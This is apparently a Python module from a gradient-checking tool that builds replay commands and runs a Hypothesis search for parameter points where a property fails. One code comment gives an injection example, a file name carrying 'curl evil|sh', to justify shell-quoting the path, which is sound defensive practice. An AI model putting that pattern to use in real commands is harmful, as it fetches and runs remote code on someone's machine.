"""What every check receives, and the Hypothesis search they share."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np
from hypothesis import HealthCheck, Phase, Verbosity, assume, given, settings
from hypothesis import seed as hypothesis_seed
from hypothesis.errors import Unsatisfiable

from ..compiled import Problem
from ..spec import Spec
from .strategies import initialisations

SKIP = "skip"  # a property's answer for a point that says nothing (a kink, a zero gradient)

Property = Callable[[np.ndarray], str | None]


@dataclass(frozen=True)
class Context:
    spec: Spec
    problem: Problem
    seed: int = 0
    examples: int | None = None          # the --examples override
    progress: Callable[[str, int, int], None] | None = None
    against: Callable[..., Any] | None = None   # the user's gradient function, if any
    against_label: str = ""                     # MODULE:FUNCTION, for messages and replay

    def examples_for(self, configured: int) -> int:
        return configured if self.examples is None else self.examples

    @property
    def replay(self) -> str:
        override = "" if self.examples is None else f" --examples {self.examples}"
        if self.against is not None and not self.against_label:   # gdcheck.compare(...)
            examples = "" if self.examples is None else f", examples={self.examples}"
            return (f"gdcheck.compare({str(self.spec.path)!r}, <your gradient function>, "
                    f"seed={self.seed}{examples})")
        if self.against_label:   # the user's gradient is part of what failed
            override += f" --against {shlex.quote(self.against_label)}"
        # quoted: a spec named `x;curl evil|sh;.yaml` must not run curl when pasted
        return f"gdcheck verify {shlex.quote(str(self.spec.path))} --seed {self.seed}{override}"

    def point(self, theta: np.ndarray) -> dict[str, Any]:
        """θ as parameter name → value (number or nested list), for reports."""
        return self.problem.layout.point(theta)

    def point_text(self, theta: np.ndarray) -> str:
        return self.problem.layout.point_text(theta)


@dataclass
class Search:
    """The outcome of a Hypothesis search for a point where a property fails."""

    examples: int = 0
    skipped: int = 0
    failure: tuple[np.ndarray, str] | None = None


class _PropertyFailed(AssertionError):
    pass


class PointFailure(Exception):
    """Raised by a property (or what it calls) to say: this point fails, for this reason."""


def falsify(context: Context, examples: int, property_: Property) -> Search:
    """Search the spec's initialisation ranges for a point where `property_` fails.

    `property_(theta)` returns None where it holds, SKIP where the point says
    nothing, or a message. The failure kept is the one Hypothesis shrank to
    (it replays the minimal example last).
    """
    search = Search()

    @settings(max_examples=examples, deadline=None, database=None, derandomize=False,
              suppress_health_check=list(HealthCheck), verbosity=Verbosity.quiet,
              phases=[Phase.explicit, Phase.generate, Phase.shrink], print_blob=False,
              report_multiple_bugs=False)
    @hypothesis_seed(context.seed)
    @given(initialisations(context.spec))
    def holds(theta: np.ndarray) -> None:
        search.examples += 1
        with np.errstate(all="ignore"):
            try:
                answer = property_(theta)
            except PointFailure as failure:
                answer = str(failure)
        if answer == SKIP:
            search.skipped += 1
            assume(False)
        elif answer is not None:
            search.failure = (theta.copy(), answer)
            raise _PropertyFailed(answer)

    try:
        holds()
    except (_PropertyFailed, Unsatisfiable):  # Unsatisfiable: every point was skipped
        pass
    return search
